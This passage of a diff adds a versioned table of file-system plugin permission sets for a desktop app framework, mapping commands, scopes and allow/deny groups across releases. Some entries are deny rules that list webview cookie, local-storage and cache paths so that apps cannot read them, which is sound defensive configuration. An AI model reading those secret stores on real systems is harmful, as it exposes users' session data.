+        p: { "deny-webview-data-linux": {}, "deny-webview-data-windows": {}, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, scope: {}, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] } },
+        s: { "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"] },
+        each: { of: ["app", "appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>/" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-rc.0"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "remove", "rename", "seek", "stat", "truncate", "unwatch", "watch", "write", "write_file", "write_text_file"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        p: { "create-app-specific-dirs": { a: ["mkdir"], sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "deny-webview-data-linux": {}, "deny-webview-data-windows": {}, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-app-specific-dirs-recursive": { a: ["read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "exists"], sa: [{ path: "$APPCONFIG/**" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE/**" }, { path: "$APPLOG/**" }] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, scope: {}, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] } },
+        s: { "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"] },
+        each: { of: ["app", "appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>/" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "remove", "rename", "seek", "stat", "truncate", "unwatch", "watch", "write", "write_file", "write_text_file"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        p: { "create-app-specific-dirs": { a: ["mkdir"], sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "deny-webview-data-linux": {}, "deny-webview-data-windows": {}, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-app-specific-dirs-recursive": { a: ["read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "exists"], sa: [{ path: "$APPCONFIG/**" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE/**" }, { path: "$APPLOG/**" }] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, scope: {}, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] } },
+        s: { "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"] },
+        each: { of: ["app", "appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["2.0.0-rc.5", "2.0.0-rc.6", "2.0.0", "2.0.1", "2.0.2", "2.0.3"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "remove", "rename", "seek", "stat", "truncate", "unwatch", "watch", "write", "write_file", "write_text_file"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        p: { "create-app-specific-dirs": { a: ["mkdir", "scope-app-index"] }, "deny-webview-data-linux": {}, "deny-webview-data-windows": {}, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-app-specific-dirs-recursive": { a: ["read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "exists", "scope-app-recursive"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, scope: {}, "scope-app": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }, { path: "$APPDATA" }, { path: "$APPDATA/*" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }, { path: "$APPCACHE" }, { path: "$APPCACHE/*" }, { path: "$APPLOG" }, { path: "$APPLOG/*" }] }, "scope-app-index": { sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "scope-app-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }, { path: "$APPDATA" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE" }, { path: "$APPCACHE/**" }, { path: "$APPLOG" }, { path: "$APPLOG/**" }] }, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] } },
+        s: { "allow-app-meta": ["read-meta", "scope-app-index"], "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"], "allow-app-read": ["read-all", "scope-app"], "allow-app-read-recursive": ["read-all", "scope-app-recursive"], "allow-app-write": ["write-all", "scope-app"], "allow-app-write-recursive": ["write-all", "scope-app-recursive"], "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"] },
+        each: { of: ["appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.3.0", "2.4.0", "2.4.1", "2.4.2", "2.4.3", "2.4.4", "2.4.5"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines_next", "remove", "rename", "seek", "size", "stat", "truncate", "unwatch", "watch", "write", "write_text_file"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        p: { "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] }, "allow-write-file": { a: ["write_file", "open", "write"] }, "create-app-specific-dirs": { a: ["mkdir", "scope-app-index"] }, "deny-read-text-file-lines": { d: ["read_text_file_lines"] }, "deny-webview-data-linux": {}, "deny-webview-data-windows": {}, "deny-write-file": { d: ["write_file"] }, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-app-specific-dirs-recursive": { a: ["read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "exists", "scope-app-recursive"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] }, scope: {}, "scope-app": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }, { path: "$APPDATA" }, { path: "$APPDATA/*" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }, { path: "$APPCACHE" }, { path: "$APPCACHE/*" }, { path: "$APPLOG" }, { path: "$APPLOG/*" }] }, "scope-app-index": { sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "scope-app-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }, { path: "$APPDATA" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE" }, { path: "$APPCACHE/**" }, { path: "$APPLOG" }, { path: "$APPLOG/**" }] }, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] } },
+        s: { "allow-app-meta": ["read-meta", "scope-app-index"], "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"], "allow-app-read": ["read-all", "scope-app"], "allow-app-read-recursive": ["read-all", "scope-app-recursive"], "allow-app-write": ["write-all", "scope-app"], "allow-app-write-recursive": ["write-all", "scope-app-recursive"], "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"] },
+        each: { of: ["appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["2.5.0", "2.5.1"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines_next", "remove", "rename", "seek", "size", "start_accessing_security_scoped_resource", "stat", "stop_accessing_security_scoped_resource", "truncate", "unwatch", "watch", "write", "write_text_file"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        p: { "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] }, "allow-write-file": { a: ["write_file", "open", "write"] }, "create-app-specific-dirs": { a: ["mkdir", "scope-app-index"] }, "deny-read-text-file-lines": { d: ["read_text_file_lines"] }, "deny-webview-data-linux": {}, "deny-webview-data-windows": {}, "deny-write-file": { d: ["write_file"] }, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-app-specific-dirs-recursive": { a: ["read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "exists", "scope-app-recursive"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] }, scope: {}, "scope-app": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }, { path: "$APPDATA" }, { path: "$APPDATA/*" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }, { path: "$APPCACHE" }, { path: "$APPCACHE/*" }, { path: "$APPLOG" }, { path: "$APPLOG/*" }] }, "scope-app-index": { sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "scope-app-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }, { path: "$APPDATA" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE" }, { path: "$APPCACHE/**" }, { path: "$APPLOG" }, { path: "$APPLOG/**" }] }, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] } },
+        s: { "allow-app-meta": ["read-meta", "scope-app-index"], "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"], "allow-app-read": ["read-all", "scope-app"], "allow-app-read-recursive": ["read-all", "scope-app-recursive"], "allow-app-write": ["write-all", "scope-app"], "allow-app-write-recursive": ["write-all", "scope-app-recursive"], "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"] },
+        each: { of: ["appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["2.5.2", "2.6.0", "2.7.0"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines_next", "remove", "rename", "seek", "size", "start_accessing_security_scoped_resource", "stat", "stop_accessing_security_scoped_resource", "truncate", "unwatch", "watch", "write", "write_text_file"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        p: { "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] }, "allow-write-file": { a: ["write_file", "open", "write"] }, "deny-read-text-file-lines": { d: ["read_text_file_lines"] }, "deny-webview-data-linux": { sd: [{ path: "$APPLOCALDATA/CacheStorage/**" }, { path: "$APPLOCALDATA/cookies" }, { path: "$APPLOCALDATA/hsts-storage.sqlite" }, { path: "$APPLOCALDATA/serviceworkers/**" }, { path: "$APPLOCALDATA/WebKitCache/**" }, { path: "$APPLOCALDATA/databases/**" }, { path: "$APPLOCALDATA/localstorage/**" }, { path: "$APPLOCALDATA/mediakeys/**" }, { path: "$APPLOCALDATA/storage/**" }], pl: ["linux"] }, "deny-webview-data-windows": { sd: [{ path: "$APPLOCALDATA/EBWebView/**" }], pl: ["windows"] }, "deny-write-file": { d: ["write_file"] }, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] }, scope: {}, "scope-app": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }, { path: "$APPDATA" }, { path: "$APPDATA/*" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }, { path: "$APPCACHE" }, { path: "$APPCACHE/*" }, { path: "$APPLOG" }, { path: "$APPLOG/*" }] }, "scope-app-index": { sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "scope-app-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }, { path: "$APPDATA" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE" }, { path: "$APPCACHE/**" }, { path: "$APPLOG" }, { path: "$APPLOG/**" }] }, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] } },
+        s: { "allow-app-meta": ["read-meta", "scope-app-index"], "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"], "allow-app-read": ["read-all", "scope-app"], "allow-app-read-recursive": ["read-all", "scope-app-recursive"], "allow-app-write": ["write-all", "scope-app"], "allow-app-write-recursive": ["write-all", "scope-app-recursive"], "create-app-specific-dirs": ["allow-mkdir", "scope-app-index"], "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"], "read-app-specific-dirs-recursive": ["allow-read-dir", "allow-read-file", "allow-read-text-file", "allow-read-text-file-lines", "allow-read-text-file-lines-next", "allow-exists", "scope-app-recursive"] },
+        each: { of: ["appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["2.7.1"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines_next", "remove", "rename", "seek", "size", "start_accessing_security_scoped_resource", "stat", "stop_accessing_security_scoped_resource", "truncate", "unwatch", "watch", "write", "write_text_file"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        p: { "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] }, "allow-write-file": { a: ["write_file", "open", "write"] }, "deny-read-text-file-lines": { d: ["read_text_file_lines"] }, "deny-webview-data-linux": { sd: [{ path: "$APPLOCALDATA/CacheStorage/**" }, { path: "$APPLOCALDATA/cookies" }, { path: "$APPLOCALDATA/hsts-storage.sqlite" }, { path: "$APPLOCALDATA/serviceworkers/**" }, { path: "$APPLOCALDATA/WebKitCache/**" }, { path: "$APPLOCALDATA/databases/**" }, { path: "$APPLOCALDATA/localstorage/**" }, { path: "$APPLOCALDATA/mediakeys/**" }, { path: "$APPLOCALDATA/storage/**" }], pl: ["linux"] }, "deny-webview-data-windows": { sd: [{ path: "$APPLOCALDATA/EBWebView/**" }], pl: ["windows"] }, "deny-write-file": { d: ["write_file"] }, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] }, scope: {}, "scope-app": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }, { path: "$APPDATA" }, { path: "$APPDATA/*" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }, { path: "$APPCACHE" }, { path: "$APPCACHE/*" }, { path: "$APPLOG" }, { path: "$APPLOG/*" }] }, "scope-app-index": { sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "scope-app-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }, { path: "$APPDATA" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE" }, { path: "$APPCACHE/**" }, { path: "$APPLOG" }, { path: "$APPLOG/**" }] } },
+        s: { "allow-app-meta": ["read-meta", "scope-app-index"], "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"], "allow-app-read": ["read-all", "scope-app"], "allow-app-read-recursive": ["read-all", "scope-app-recursive"], "allow-app-write": ["write-all", "scope-app"], "allow-app-write-recursive": ["write-all", "scope-app-recursive"], "create-app-specific-dirs": ["allow-mkdir", "scope-app-index"], "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"], "read-app-specific-dirs-recursive": ["allow-read-dir", "allow-read-file", "allow-read-text-file", "allow-read-text-file-lines", "allow-read-text-file-lines-next", "allow-exists", "scope-app-recursive"], "write-all": ["allow-mkdir", "allow-create", "allow-copy-file", "allow-remove", "allow-rename", "allow-truncate", "allow-ftruncate", "allow-write", "allow-write-file", "allow-write-text-file"], "write-files": ["allow-create", "allow-copy-file", "allow-remove", "allow-rename", "allow-truncate", "allow-ftruncate", "allow-write", "allow-write-file", "allow-write-text-file"] },
+        each: { of: ["appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines_next", "remove", "rename", "seek", "size", "start_accessing_security_scoped_resource", "stat", "stop_accessing_security_scoped_resource", "truncate", "unwatch", "watch", "write", "write_text_file"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        demand: true,
+        p: { "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] }, "allow-write-file": { a: ["write_file", "open", "write"] }, "deny-read-text-file-lines": { d: ["read_text_file_lines"] }, "deny-webview-data-linux": { sd: [{ path: "$APPLOCALDATA/CacheStorage/**" }, { path: "$APPLOCALDATA/cookies" }, { path: "$APPLOCALDATA/hsts-storage.sqlite" }, { path: "$APPLOCALDATA/serviceworkers/**" }, { path: "$APPLOCALDATA/WebKitCache/**" }, { path: "$APPLOCALDATA/databases/**" }, { path: "$APPLOCALDATA/localstorage/**" }, { path: "$APPLOCALDATA/mediakeys/**" }, { path: "$APPLOCALDATA/storage/**" }], pl: ["linux"] }, "deny-webview-data-windows": { sd: [{ path: "$APPLOCALDATA/EBWebView/**" }], pl: ["windows"] }, "deny-write-file": { d: ["write_file"] }, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch", "unwatch"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] }, scope: {}, "scope-app": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }, { path: "$APPDATA" }, { path: "$APPDATA/*" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }, { path: "$APPCACHE" }, { path: "$APPCACHE/*" }, { path: "$APPLOG" }, { path: "$APPLOG/*" }] }, "scope-app-index": { sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "scope-app-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }, { path: "$APPDATA" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA" }, { path: 